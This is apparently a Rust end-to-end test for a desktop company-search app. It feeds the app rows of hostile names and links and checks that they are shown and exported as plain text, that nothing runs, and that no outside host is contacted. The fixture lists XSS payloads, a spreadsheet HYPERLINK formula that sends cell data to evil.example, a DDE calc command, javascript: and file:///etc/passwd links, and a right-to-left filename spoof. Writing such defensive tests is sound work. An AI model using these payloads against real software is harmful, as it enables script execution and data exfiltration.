//! A service that sends what would harm a careless reader: it is shown as text, exported as text, and nothing runs.

use api::Doc;
use api::columns::{COMPANIES, Column, GridKind};
use serde_json::{Value, json};
use tests::rig::Scripted;

use crate::steps::*;
use crate::window::*;
use crate::{files, outside};

const NAMES: [&str; 6] = [
    "<img src=x onerror=\"window.harmed=1;document.title='harmed'\">",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "Acme \u{202e}gpj.exe",
    "</script><script>window.harmed=1</script>",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{constructor.constructor('window.harmed=1')()}",
];

#[tokio::test]
async fn hostile() {
    journey("hostile", Keyring::None, async |window| {
        first_start(window).await;
        let rows = companies();
        let told = rows.clone();
        let service = Scripted::start(move |sent| match sent.target.split('?').next().unwrap_or_default() {
            "/v1/credits" => (200, json!({"status": "success", "credits": "50"})),
            "/v1/find-companies" => (200, json!({"rows": rows, "total": rows.len(), "page": 0, "size": 100})),
            _ => (200, json!({"filter": "city", "query": "x", "values": []})),
        })
        .await;
        open_connection_form(window).await;
        fill_connection(window, "Elsewhere", &service.base_url, "network.example", "any-key").await;
        window.click(&button("Connect").inside(dialog("Connect your workspace"))).await;
        window.find(&button("Workspace: Elsewhere*")).await;
        window.click(&button(SAMPLE)).await;
        window.click(&button("Search, up to 10 credits")).await;
        loaded(window, &NAMES.len().to_string()).await;
        shown(window).await;
        outside::only_own(window).await;
        audited(window, "hostile-names").await;
        nothing_runs(window).await;
        half_a_pair(window).await;
        outside::nobody_is_reached(window).await;
        exported(window, &told).await;
        assert_eq!(window.script("return window.harmed ?? null", Vec::new()).await, Value::Null, "nothing ran");
        assert_eq!(service.sent("/v1/find-companies").len(), 1, "one page was asked, once");
        let asked: Vec<_> = service.sent("").iter().map(|sent| sent.target.clone()).collect();
        assert!(asked.iter().all(|target| target.starts_with("/v1/")), "only the service's operations: {asked:?}");
    })
    .await;
}

fn companies() -> Vec<Doc> {
    // One city is there twice: values that occur once get no bars.
    let company = |(at, name): (usize, &&str)| {
        let company = json!({
            "name": name, "domain": format!("c{at}.example"), "cityName": NAMES[(at + 1) % (NAMES.len() - 1)],
            "description": NAMES.join(" "), "website": "javascript:window.harmed=1", "employeeRange": "51-200",
            "networkProfile": "file:///etc/passwd", "logo": "javascript:window.harmed=1",
        });
        serde_json::from_value(company).expect("a row is an object")
    };
    NAMES.iter().enumerate().map(company).collect()
}

/// In the table, in the drawer and as bars: as the text that it is. An address that is no web address is no link.
async fn shown(window: &Window) {
    assert_eq!(window.column("Company", NAMES.len()).await, NAMES.map(tidy), "every name is shown letter by letter");
    for position in [0, 3] {
        window.click_cell(position, "Company").await;
        let drawer = region("Company details");
        window.find(&heading(&tidy(NAMES[position])).inside(drawer.clone())).await;
        window.click(&button("Close details").inside(drawer.clone())).await;
        window.gone(&drawer).await;
    }
    window.click_cell(0, "Website").await;
    assert!(window.lines().told("followed").is_empty(), "no program is opened for it");
    if window.sees(&button("Close details")).await {
        window.click(&button("Close details")).await;
    }
    let images = window.script("return [...document.images].map(({ src }) => src)", Vec::new()).await;
    let foreign =
        |src: &Value| !src.as_str().is_some_and(|src| src.starts_with("logo:") || src.contains("://logo.localhost"));
    assert!(!images.as_array().expect("a list").iter().any(foreign), "no picture but by the app's own way: {images}");
}

/// As a page shows it; a mark that would turn the text around is left out.
fn tidy(name: &str) -> String {
    name.replace('\u{202e}', "").split_whitespace().collect::<Vec<_>>().join(" ")
}

/// A script that came into the page, by whatever hole, does not run: the page's policy says no, and says so.
async fn nothing_runs(window: &Window) {
    const TRY: &str = r#"
        const done = arguments[0];
        const refused = new Set();
        document.addEventListener('securitypolicyviolation', (event) => refused.add(event.effectiveDirective));
        const script = document.createElement('script');
        script.textContent = 'window.harmed = 1';
        const host = document.createElement('div');
        document.body.append(script, host);
        host.innerHTML = '<img src="data:image/png;base64,x" onerror="window.harmed=1"><a href="javascript:window.harmed=1">x</a><svg onload="window.harmed=1"></svg>';
        host.querySelector('a').click();
        try { eval('window.harmed = 1'); } catch { refused.add('eval'); }
        try { new Function('window.harmed = 1')(); } catch { refused.add('function'); }
        try { setTimeout('window.harmed = 1', 0); } catch { refused.add('timer'); }
        setTimeout(() => {
            host.remove();
            script.remove();
            done([window.harmed ?? null, [...refused].sort()]);
        }, 1000);
    "#;
    let told = window.script_later(TRY, Vec::new()).await;
    assert_eq!(told[0], Value::Null, "nothing ran: {told}");
    let refused: Vec<&str> = told[1].as_array().expect("a list").iter().filter_map(Value::as_str).collect();
    for what in ["eval", "function"] {
        assert!(refused.contains(&what), "{what} is refused: {refused:?}");
    }
    assert!(refused.iter().any(|told| told.starts_with("script-src")), "the policy says that it refused: {refused:?}");
}

/// What no text can hold is not taken for one: it comes back as a refusal at once, and the next question is answered. That a
/// script of the page asks so is the worst that can be: what is typed and pasted is text by then.
async fn half_a_pair(window: &Window) {
    const ASK: &str = "
        const [text, done] = arguments;
        const request = { text: `{\"job\":[\"${text === 'half' ? '\\ud83d' : text}\"]}` };
        window.__TAURI_INTERNALS__.invoke('call', { name: 'read_search', request }).then(
            (told) => done(JSON.stringify(told.filters)),
            (refused) => done(typeof refused === 'string' ? refused : JSON.stringify(refused)),
        );
    ";
    let told = window.script_later(ASK, vec![json!("half")]).await;
    let told = told.as_str().expect("a text");
    assert!(told.contains("hex escape") || told.contains("surrogate"), "it is refused where it is read: {told}");
    let told = window.script_later(ASK, vec![json!("\u{1f680}")]).await;
    assert_eq!(told, json!("{\"job\":[\"\u{1f680}\"]}"), "a whole pair is a character, and the bridge goes on");
}

async fn exported(window: &Window, rows: &[Doc]) {
    let columns: Vec<&Column> =
        COMPANIES.iter().filter(|column| GridKind::Companies.shown().contains(&column.key)).collect();
    for (format, ending) in [("Excel (XLSX)", "xlsx"), ("CSV", "csv")] {
        window.click(&button("Export")).await;
        let sheet = dialog("Export");
        window.click(&radio(format).inside(sheet.clone())).await;
        window.click(&button(&format!("Export {} rows", rows.len())).inside(sheet.clone())).await;
        window.says(&format!("{} rows in *", rows.len())).await;
        window.click(&button("Done").inside(sheet.clone())).await;
        window.gone(&sheet).await;
        let files = window.folders.files(&format!(".{ending}"));
        match ending {
            "xlsx" => {
                files::same("the workbook", &files::workbook(&files[0], "Companies"), &files::as_typed(&columns, rows))
            }
            _ => files::same("the CSV", &files::table(&files[0]), &files::as_text(&columns, rows)),
        }
    }
}
